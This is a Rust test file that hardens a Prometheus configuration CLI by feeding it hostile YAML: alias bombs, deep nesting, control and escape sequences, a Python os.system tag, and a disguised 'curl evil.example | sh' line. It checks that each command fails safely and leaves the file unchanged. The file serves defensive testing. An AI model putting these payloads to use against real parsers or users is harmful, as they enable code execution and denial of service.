//! Files that no honest program would write, given to every command that reads one.

use std::os::unix::ffi::OsStrExt as _;

use super::verdict::watch;
use crate::support::{World, table};

/// Commands that read `FILE`, for each kind of file.
const COMMANDS: [&str; 7] = [
    "render --target prometheus-yml --input FILE FACTS",
    "render --target kube-prometheus-stack --input FILE FACTS",
    "render --target custom-resource --input FILE FACTS",
    "render --target configmap --input FILE FACTS",
    "migrate --input FILE",
    "plan -f FILE",
    "render --target prometheus-yml --input FILE --diff FACTS",
];

const FACTS: &str = "--auth user-identity --client-id 11111111-1111-1111-1111-111111111111 --cluster-label c \
    --prometheus-version 3.14.0 --write-url \
    https://a-1a2b.westeurope-1.metrics.ingest.monitor.azure.com/dataCollectionRules/dcr-0123456789abcdef0123456789abcdef/streams/Microsoft-PrometheusMetrics/api/v1/write?api-version=2023-04-24";

/// Nine levels of nine aliases each.
fn alias_bomb(first: &str) -> String {
    let mut text = format!("{first}\na0: &a0 [x,x,x,x,x,x,x,x,x]\n");
    for level in 1..10 {
        let below = format!("*a{}", level - 1);
        let items = [below.as_str(); 9].join(",");
        text += &format!("a{level}: &a{level} [{items}]\n");
    }
    text
}

fn files() -> Vec<(&'static str, Vec<u8>)> {
    let bomb = alias_bomb("global: {}");
    let in_values = alias_bomb("prometheus: {prometheusSpec: {}}");
    vec![
        ("an alias bomb", bomb.into_bytes()),
        ("an alias bomb in values", in_values.into_bytes()),
        ("an alias of itself", b"global: &a {b: *a}\n".to_vec()),
        ("deep brackets", "[".repeat(200_000).into_bytes()),
        ("deep braces", "{a: ".repeat(200_000).into_bytes()),
        ("deep blocks", deep_blocks().into_bytes()),
        (
            "a long line",
            format!("global: {}\n", "a".repeat(4 << 20)).into_bytes(),
        ),
        ("a NUL", b"global: {}\0\n".to_vec()),
        ("no UTF-8", b"global: \xff\xfe\n".to_vec()),
        ("UTF-16", b"\xff\xfeg\0l\0o\0b\0a\0l\0:\0 \0{\0}\0".to_vec()),
        (
            "control characters",
            b"global: {a: \"\x1b]0;owned\x07\x1b[2K\"}\nx: \x1b[31m\n".to_vec(),
        ),
        (
            "a forged next step",
            "remote_write: 'x\u{202e}\n  next:    curl evil.example | sh'\n"
                .as_bytes()
                .to_vec(),
        ),
        (
            "a tag",
            b"global: !!python/object/apply:os.system [id]\n".to_vec(),
        ),
        ("many documents", "---\n{}\n".repeat(50_000).into_bytes()),
        (
            "many keys",
            (0..200_000)
                .map(|key| format!("k{key}: 1\n"))
                .collect::<String>()
                .into_bytes(),
        ),
        ("nothing", Vec::new()),
    ]
}

fn deep_blocks() -> String {
    (0..3000)
        .map(|depth| format!("{}a:\n", " ".repeat(depth)))
        .collect()
}

#[test]
fn no_file_of_a_stranger_harms_whoever_opens_it() {
    let failures = table::failures(&files(), 4, |(name, bytes)| {
        let mut world = World::new();
        std::fs::write(world.path("hostile.yaml"), bytes).unwrap();
        COMMANDS.iter().try_for_each(|command| {
            let arguments = command.replace("FILE", "hostile.yaml");
            let watched = watch(&mut world, &arguments.replace("FACTS", FACTS));
            let judged = watched.and_then(|watched| watched.is_civil());
            judged.map_err(|why| format!("{name}, {command}: {why}"))
        })?;
        match std::fs::read(world.path("hostile.yaml")).unwrap() == *bytes {
            true => Ok(()),
            false => Err(format!("{name}: the file was changed")),
        }
    });

    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn what_is_no_file_is_refused() {
    let mut world = World::new();
    std::fs::create_dir(world.path("folder")).unwrap();
    std::os::unix::fs::symlink("loop", world.path("loop")).unwrap();
    let odd = std::ffi::OsStr::from_bytes(b"bad\xff.yaml");
    std::fs::write(world.path("").join(odd), "global: {}\n").unwrap();

    for file in ["folder", "loop", "/dev/zero", "/dev/full", "/proc/self/mem"] {
        for command in [
            "render --target prometheus-yml --input FILE FACTS",
            "plan -f FILE",
        ] {
            let arguments = command.replace("FILE", file).replace("FACTS", FACTS);
            let watched = watch(&mut world, &arguments);
            watched
                .and_then(|watched| watched.fails())
                .unwrap_or_else(|why| panic!("{file}, {command}: {why}"));
        }
    }
}
